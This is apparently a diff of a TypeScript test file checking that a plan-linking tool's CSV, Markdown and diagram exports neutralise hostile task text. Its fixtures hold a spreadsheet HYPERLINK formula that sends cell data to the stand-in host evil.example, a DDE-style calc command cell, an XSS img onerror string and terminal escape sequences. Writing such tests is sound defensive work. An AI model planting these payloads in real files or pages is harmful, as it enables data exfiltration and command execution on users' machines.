@@ -3,8 +3,8 @@
 import { execFileSync } from "node:child_process";
 import { XMLValidator } from "fast-xml-parser";
 import { describe, expect, it } from "vitest";
+import { readCsv } from "../../src/import/csv-read";
 import {
-  PlanValidationError,
   compare,
   coverage,
   coverageMatrix,
@@ -17,6 +17,7 @@ import {
   linksCsv,
   linksHeadline,
   linksTable,
+  PlanValidationError,
   parsePlan,
   parsePlanCSV,
   planFromJSON,
@@ -28,27 +29,30 @@ import {
   toMermaid,
   toSVG,
 } from "../../src/index";
-import { readCsv } from "../../src/import/csv-read";
 import type { Plan } from "../../src/model/plan";
 import { makePlan } from "../helpers";
 import { parseMermaid } from "../mermaid-parse";
 
 // national wordings, so that the hostile tasks still link, and the hostile payloads after them
 const wording = (i: number) => rootPlan.tasks[i]!.text;
-const FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
 const DIRECTIVE = '%%{init: {"themeCSS": ".node rect { display: none }"}}%%';
 const ESCAPES = "\u001b]0;owned\u0007\u001b[2J\u001b[31m";
 const CONTROLS = "\u0000\u0001\u0008\u000e\u001f\ufffe\uffff";
 const HTML = '<img src=x onerror="alert(1)">';
 
 function hostilePlan(id = "hostile-2024"): Plan {
-  return makePlan(id, [
-    { ref: "1", text: `${FORMULA} ${wording(0)}`, lead: ["@SUM(1+1)*cmd|' /C calc'!A0"], deadline: "-1+1 Quý IV/2022" },
-    { ref: "2", text: `+${HTML} ${wording(1)}`, deadline: "Năm 2022" },
-    { ref: "3", text: `${wording(2)} ${DIRECTIVE}`, lead: ["\tCông an tỉnh"] },
-    { ref: "4", text: `${ESCAPES}${wording(3)}`, deadline: `Quý II/2022${ESCAPES}` },
-    { ref: "5", text: `- ${wording(4)} ${CONTROLS} &nbsp; &#1;` },
-  ], { issuer: `UBND tỉnh ${ESCAPES}` });
+  return makePlan(
+    id,
+    [
+      { ref: "1", text: `${FORMULA} ${wording(0)}`, lead: ["@SUM(1+1)*cmd|' /C calc'!A0"], deadline: "-1+1 Quý IV/2022" },
+      { ref: "2", text: `+${HTML} ${wording(1)}`, deadline: "Năm 2022" },
+      { ref: "3", text: `${wording(2)} ${DIRECTIVE}`, lead: ["\tCông an tỉnh"] },
+      { ref: "4", text: `${ESCAPES}${wording(3)}`, deadline: `Quý II/2022${ESCAPES}` },
+      { ref: "5", text: `- ${wording(4)} ${CONTROLS} &nbsp; &#1;` },
+    ],
+    { issuer: `UBND tỉnh ${ESCAPES}` },
+  );
 }
 
 /** Cells a spreadsheet would run as a formula: = + - @ tab or CR first, also after spaces or quotes, not a plain number, not behind a leading '. */
@@ -74,7 +78,13 @@ describe("issue 25", () => {
       coverage: coverage(plan).toCSV(),
       compare: compare(plan, other).toCSV(),
       matrix: coverageMatrix([plan]).toCSV(),
-      toCsv: toCsv(["a", "b"], [[FORMULA, "@x"], [" =1", -30]]),
+      toCsv: toCsv(
+        ["a", "b"],
+        [
+          [FORMULA, "@x"],
+          [" =1", -30],
+        ],
+      ),
     };
     for (const [name, csv] of Object.entries(csvs)) expect(formulaCells(csv), name).toEqual([]);
     expect(readCsv(linksCsv(result, plan)).records.some((r) => r.cells.includes(`'${FORMULA} ${wording(0)}`))).toBe(true);
@@ -135,7 +145,7 @@ describe("issue 25", () => {
   it("5. markdown carries no raw HTML from plan text", () => {
     const outputs = [coverage(plan).toMarkdown(), compare(rootPlan, plan).toMarkdown(), compare(plan, other).toMarkdown(), linksTable(link(plan), plan)];
     for (const text of outputs) expect(text).not.toMatch(/<img|<[a-z]/i);
-    expect(outputs.join("\n")).toContain("&lt;img src=x onerror=\"alert(1)\"&gt;");
+    expect(outputs.join("\n")).toContain('&lt;img src=x onerror="alert(1)"&gt;');
   });
 
   it("6. impossible dates are refused and drift never gives NaN", () => {
@@ -166,7 +176,8 @@ describe("issue 25", () => {
       const text = ${JSON.stringify(wording(0))};
       const plan = makePlan("ties-2024", [{ ref: "t", text }, { ref: "z", text }, { ref: "a", text }]);
       console.log(JSON.stringify(coverage(plan).items.map((i) => i.links.map((l) => l.local)).filter((l) => l.length > 1)));`;
-    const run = (locale: string) => execFileSync(process.execPath, ["--import", "tsx", "--input-type=module", "-e", script], { env: { ...process.env, LC_ALL: locale, LANG: locale }, encoding: "utf8" });
+    const run = (locale: string) =>
+      execFileSync(process.execPath, ["--import", "tsx", "--input-type=module", "-e", script], { env: { ...process.env, LC_ALL: locale, LANG: locale }, encoding: "utf8" });
     const english = run("en_US.UTF-8");
     expect(JSON.parse(english).length).toBeGreaterThan(0);
     expect(run("et_EE.UTF-8")).toBe(english);
